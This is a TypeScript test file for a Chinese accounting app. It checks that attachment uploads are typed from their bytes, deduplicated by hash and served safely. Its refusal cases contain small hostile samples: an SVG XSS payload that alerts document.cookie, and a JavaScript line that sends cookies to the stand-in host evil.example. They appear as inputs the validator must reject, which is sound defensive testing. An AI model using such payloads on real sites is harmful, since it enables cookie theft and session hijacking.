// Attachments (issue 7, "Security": size and type limits, stored by hash, never executed or
// rendered as HTML): 原始凭证 on vouchers (vouchers.attach / vouchers.attachment) and evidence on
// expense requests (spending.attach). The type is read from the bytes with file-type; the name and
// the declared type must agree with it; web pages, SVG, scripts and programs are refused in Chinese
// whatever they are called; identical files are stored once; a file is served back only with the
// type recognised at upload.
import ExcelJS from 'exceljs';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ATTACHMENT_MIME_TYPES, MAX_ATTACHMENT_BYTES } from '../../src/main/contract/attachments';
import type { ClientRef } from '../../src/main/core/context';
import { servedType } from '../../src/main/core/files/attachments';
import { addUser, initLedger, openTestLedger, type TestLedger } from '../helpers/core';
import { addMember } from '../helpers/dues';

let l: TestLedger;
let kuaiji: ClientRef;
let voucherId = 0;
let requestId = 0;
let checks = 0;

beforeAll(async () => {
  l = await openTestLedger({ clock: () => new Date('2026-03-15T10:00:00+08:00') });
  await initLedger(l);
  kuaiji = await addUser(l, 'kuaiji', ['accountant']);
  const v = await l.call(kuaiji, 'vouchers.save', {
    date: '2026-03-02',
    attachments: 1,
    lines: [
      { summary: '购买办公用品', accountCode: '50101', debit: 12_000, fundNature: 'general', expenseType: 'basic' },
      { summary: '购买办公用品', accountCode: '101', credit: 12_000 },
    ],
  });
  voucherId = v.id;
  const zhang = addMember(l, { no: 'E001', name: '张三' });
  const r = await l.call(kuaiji, 'spending.save', {
    type: '节日慰问',
    purpose: '春节慰问品',
    date: '2026-02-10',
    accountCode: '50105',
    amountFen: 30_000,
    payee: { kind: 'supplier', name: '某某超市' },
    paymentMethod: '银行转账',
    recipients: [{ memberId: zhang, amountFen: 30_000, item: '大米一袋' }],
    details: { festival: '春节' },
  });
  requestId = r.id;
});
afterAll(() => {
  console.log(`[attachments] ${checks} upload and serving checks`);
  l.close();
});

// ---------- files ----------

function zip(parts: { name: string; data: string | Buffer }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const p of parts) {
    const data = Buffer.isBuffer(p.data) ? p.data : Buffer.from(p.data);
    const deflated = zlib.deflateRawSync(data);
    const name = Buffer.from(p.name);
    const head = (size: number) => {
      const b = Buffer.alloc(size);
      return b;
    };
    const local = head(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(zlib.crc32(data), 14);
    local.writeUInt32LE(deflated.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = head(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(zlib.crc32(data), 16);
    central.writeUInt32LE(deflated.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, deflated);
    centrals.push(central, name);
    offset += 30 + name.length + deflated.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

let serial = 0;
const pdf = () => Buffer.from(`%PDF-1.7\n% 发票 ${++serial}\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`);
const png = () => Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex'), Buffer.from([serial++ & 0xff])]);
const jpg = () => Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, serial++ & 0xff]);
const webp = () => Buffer.concat([Buffer.from('RIFF'), Buffer.from([0x24, 0, 0, 0]), Buffer.from('WEBPVP8 '), Buffer.alloc(24, serial++ & 0xff)]);
const tiff = () => Buffer.concat([Buffer.from([0x49, 0x49, 0x2a, 0x00, 0x08, 0, 0, 0]), Buffer.alloc(16, serial++ & 0xff)]);
async function xlsx(): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  wb.addWorksheet('明细').addRow(['品名', '金额', ++serial]);
  return Buffer.from(await wb.xlsx.writeBuffer());
}
const docx = () =>
  zip([
    { name: '[Content_Types].xml', data: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>' },
    { name: 'word/document.xml', data: `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>会议纪要 ${++serial}</w:t></w:r></w:p></w:body></w:document>` },
  ]);
const ofd = () =>
  zip([
    { name: 'OFD.xml', data: `<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0" DocType="OFD"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD><!-- ${++serial} -->` },
    { name: 'Doc_0/Document.xml', data: '<ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"/>' },
  ]);

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

// ---------- uploads ----------

type Target = 'voucher' | 'spending';
async function upload(target: Target, filename: string, mimeType: string, bytes: Buffer) {
  const base64 = bytes.toString('base64');
  return target === 'voucher'
    ? l.core.dispatch(kuaiji, 'vouchers.attach', { id: voucherId, filename, mimeType, base64 })
    : l.core.dispatch(kuaiji, 'spending.attach', { requestId, kind: '发票', filename, mimeType, base64 });
}
const counts = () => l.core.sqlite.prepare('SELECT (SELECT count(*) FROM attachment_blobs) || \'/\' || (SELECT count(*) FROM voucher_attachments) || \'/\' || (SELECT count(*) FROM spending_evidence) || \'/\' || (SELECT count(*) FROM audit_log)').pluck().get() as string;

const ACCEPTED: [string, string, () => Buffer | Promise<Buffer>][] = [
  ['发票.pdf', 'application/pdf', pdf],
  ['收据.PNG', 'image/png', png],
  ['收据照片.jpeg', 'image/jpeg', jpg],
  ['收据.webp', 'image/webp', webp],
  ['扫描件.tif', 'image/tiff', tiff],
  ['明细表.xlsx', XLSX, xlsx],
  ['会议纪要.docx', DOCX, docx],
  ['电子发票.ofd', 'application/ofd', ofd],
];

describe.each(['voucher', 'spending'] as const)('uploads to a %s', (target) => {
  it.each(ACCEPTED)('accepts %s as %s', async (filename, mimeType, build) => {
    checks++;
    const res = await upload(target, filename, mimeType, await build());
    expect(res.ok, res.ok ? '' : res.error.message).toBe(true);
  });

  const svg = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>';
  it.each([
    ['an HTML page named .pdf', '发票.pdf', 'application/pdf', () => Buffer.from('<!DOCTYPE html><html><body><script>fetch("/api/invoke")</script></body></html>'), 'mimeType', /网页/],
    ['an HTML page with a BOM and leading blanks', '收据.png', 'image/png', () => Buffer.from('\uFEFF  \n<html><head></head><body>x</body></html>'), 'mimeType', /网页/],
    ['an SVG with script named .png', '收据.png', 'image/png', () => Buffer.from(svg), 'mimeType', /SVG/],
    ['JavaScript named .pdf', '发票.pdf', 'application/pdf', () => Buffer.from('const x = 1;\nfetch("http://evil.example/" + document.cookie);'), 'mimeType', /脚本/],
    ['a Windows program named .pdf', '发票.pdf', 'application/pdf', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300)]), 'mimeType', /\.exe 文件/],
    ['a plain zip declared as OFD', '发票.ofd', 'application/ofd', () => zip([{ name: 'a.txt', data: 'x' }]), 'mimeType', /\.zip 文件/],
    ['random bytes', '发票.pdf', 'application/pdf', () => Buffer.from([0x13, 0x37, 0x00, 0x42, 0x99, 0x01]), 'mimeType', /无法识别/],
    ['a real PDF called .html', '发票.html', 'application/pdf', pdf, 'filename', /\.html 文件，不能作为附件/],
    ['a real PDF called .svg', '发票.svg', 'application/pdf', pdf, 'filename', /\.svg 文件/],
    ['a real PDF called .exe', '发票.exe', 'application/pdf', pdf, 'filename', /\.exe 文件/],
    ['a real PDF called .js', 'x.js', 'application/pdf', pdf, 'filename', /\.js 文件/],
    ['a PDF named .png', '收据.png', 'application/pdf', pdf, 'filename', /扩展名是 \.png/],
    ['a PDF declared as PNG', '发票.pdf', 'image/png', pdf, 'mimeType', /与声明的类型（image\/png）不符/],
    ['an empty file', '发票.pdf', 'application/pdf', () => Buffer.alloc(0), 'base64', /为空/],
    ['a PDF over 20 MB', '大.pdf', 'application/pdf', () => Buffer.concat([pdf(), Buffer.alloc(MAX_ATTACHMENT_BYTES, 0x20)]), 'base64', /20 MB/],
  ] as const)('refuses %s', async (_name, filename, mimeType, build, field, message) => {
    checks++;
    const before = counts();
    const res = await upload(target, filename, mimeType, await build());
    expect(res.ok).toBe(false);
    if (res.ok) return;
    expect(res.error.code).toBe('VALIDATION');
    expect(res.error.message).toMatch(message);
    expect(res.error.message).toMatch(/[\u4e00-\u9fff]/);
    expect(res.error.field).toBe(field);
    expect(counts()).toBe(before);
  });

  it.each(['text/html', 'image/svg+xml', 'application/javascript', 'application/x-msdownload', 'application/octet-stream'])('refuses the declared type %s before reading the file', async (mimeType) => {
    checks++;
    const res = await upload(target, '发票.pdf', mimeType, pdf());
    expect(res).toMatchObject({ ok: false, error: { code: 'VALIDATION', field: 'mimeType', message: expect.stringContaining('只接受') } });
  });
});

describe('stored by hash, served as recognised', () => {
  it('the same file on two vouchers and a request is stored once (SHA-256) and referenced three times', async () => {
    checks++;
    const bytes = pdf();
    const other = await l.call(kuaiji, 'vouchers.save', {
      date: '2026-03-03',
      attachments: 1,
      lines: [
        { summary: '购买办公用品', accountCode: '50101', debit: 100, fundNature: 'general', expenseType: 'basic' },
        { summary: '购买办公用品', accountCode: '101', credit: 100 },
      ],
    });
    const a = await l.call(kuaiji, 'vouchers.attach', { id: voucherId, filename: '同一张发票.pdf', mimeType: 'application/pdf', base64: bytes.toString('base64') });
    const b = await l.call(kuaiji, 'vouchers.attach', { id: other.id, filename: '同一张发票（复印）.pdf', mimeType: 'application/pdf', base64: bytes.toString('base64') });
    await l.call(kuaiji, 'spending.attach', { requestId, kind: '发票', filename: '同一张发票.pdf', mimeType: 'application/pdf', base64: bytes.toString('base64') });
    const sha = a.files.at(-1)!.sha256;
    expect(sha).toMatch(/^[0-9a-f]{64}$/);
    expect(b.files.at(-1)!.sha256).toBe(sha);
    expect(l.core.sqlite.prepare('SELECT count(*) FROM attachment_blobs WHERE sha256 = ?').pluck().get(sha)).toBe(1);
    expect(l.core.sqlite.prepare('SELECT (SELECT count(*) FROM voucher_attachments WHERE sha256 = ?) + (SELECT count(*) FROM spending_evidence WHERE sha256 = ?)').pluck().get(sha, sha)).toBe(3);
    const served = await l.call(kuaiji, 'vouchers.attachment', { attachmentId: b.files.at(-1)!.id });
    expect(served).toEqual({ filename: '同一张发票（复印）.pdf', mimeType: 'application/pdf', base64: bytes.toString('base64') });
  });

  it('every accepted type is served back with the type read from its bytes; a stored row of any other type is served as a download', async () => {
    for (const [filename, mimeType, build] of ACCEPTED) {
      checks++;
      const d = await l.call(kuaiji, 'vouchers.attach', { id: voucherId, filename, mimeType: mimeType as (typeof ATTACHMENT_MIME_TYPES)[number], base64: (await build()).toString('base64') });
      const f = d.files.at(-1)!;
      expect(f.mimeType).toBe(mimeType);
      expect((await l.call(kuaiji, 'vouchers.attachment', { attachmentId: f.id })).mimeType).toBe(mimeType);
    }
    // Anything else a row could say (text/html, image/svg+xml) would be served as a download, never as a page.
    checks++;
    for (const t of ['text/html', 'image/svg+xml', 'application/javascript', 'text/plain']) expect(servedType(t)).toBe('application/octet-stream');
    for (const t of ATTACHMENT_MIME_TYPES) expect(servedType(t)).toBe(t);
  });

  it('stored attachments cannot be altered or re-typed in the file: the database refuses (append-only triggers)', async () => {
    checks++;
    const d = await l.call(kuaiji, 'vouchers.attach', { id: voucherId, filename: '不可改.pdf', mimeType: 'application/pdf', base64: pdf().toString('base64') });
    const f = d.files.at(-1)!;
    expect(() => l.core.sqlite.prepare("UPDATE attachment_blobs SET data = CAST('<html>' AS BLOB) WHERE sha256 = ?").run(f.sha256)).toThrow(/不可修改/);
    expect(() => l.core.sqlite.prepare("UPDATE voucher_attachments SET mime_type = 'text/html' WHERE id = ?").run(f.id)).toThrow(/不可修改/);
    expect((await l.call(kuaiji, 'vouchers.attachment', { attachmentId: f.id })).mimeType).toBe('application/pdf');
  });
});
